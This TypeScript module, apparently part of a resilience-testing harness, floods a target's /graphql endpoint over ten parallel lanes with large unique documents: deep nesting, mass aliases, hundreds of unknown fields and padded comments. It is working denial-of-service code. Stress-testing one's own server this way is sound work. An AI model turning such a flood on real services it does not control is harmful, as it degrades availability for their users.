import { randomUUID } from 'node:crypto'
import { askOnce, repeatOnLanes, type Target, toPost } from './attack-target.ts'

const lanes = 10
const characters = 10_000

/** GraphQL documents of 10,000 characters, no two the same: valid, invalid, deep, and full of aliases. */
export async function sendLargeDocuments(target: Target): Promise<void> {
  await repeatOnLanes(target, lanes, (lane, turn) => {
    const query = documents[(lane + turn) % documents.length]?.(randomUUID().replaceAll('-', '')) ?? ''
    return askOnce(target, toPost(target, '/graphql', JSON.stringify({ query })))
  })
}

/** Each at most `characters` long, because the server may treat longer ones differently. */
const documents: ((unique: string) => string)[] = [
  unique => `{ ${`a${unique}`.padEnd(characters - 60, 'x')}: todos(first: 1) { totalCount } }`,
  unique => `{ todos { edges { node { ${manyFields(unique)} } } } }`,
  unique => `query Q${unique} { ${manyFields('')} }`,
  unique => `query Q${unique} { todos { edges { node { ${'id '.repeat(900)} } } } }`,
  unique => `query Q${unique} { ${fill('todos { edges { node { ')}`,
  unique => `query Q${unique} { ${fill('a: todos(first: 1) { totalCount } ')} }`,
  unique => `{ ${Array.from({ length: 150 }, (_, n) => `a${n}${unique}: todos { totalCount }`).join(' ')} }`,
  unique => `query Q${unique} { ${nest('todos { edges { node', 300)} }`,
  unique => `# ${unique.padEnd(characters - 60, '#')}\n{ todos(first: 1) { totalCount } }`,
]

const fill = (part: string) => part.repeat(Math.floor((characters - 60) / part.length))

/** As many unknown fields as the token limit allows. */
const manyFields = (unique: string) =>
  Array.from({ length: 900 }, (_, n) => `f${n}${unique.slice(0, 6)}`).join(' ')

const nest = (part: string, times: number) => `${`${part} { `.repeat(times)}id${' }'.repeat(times * 3)}`
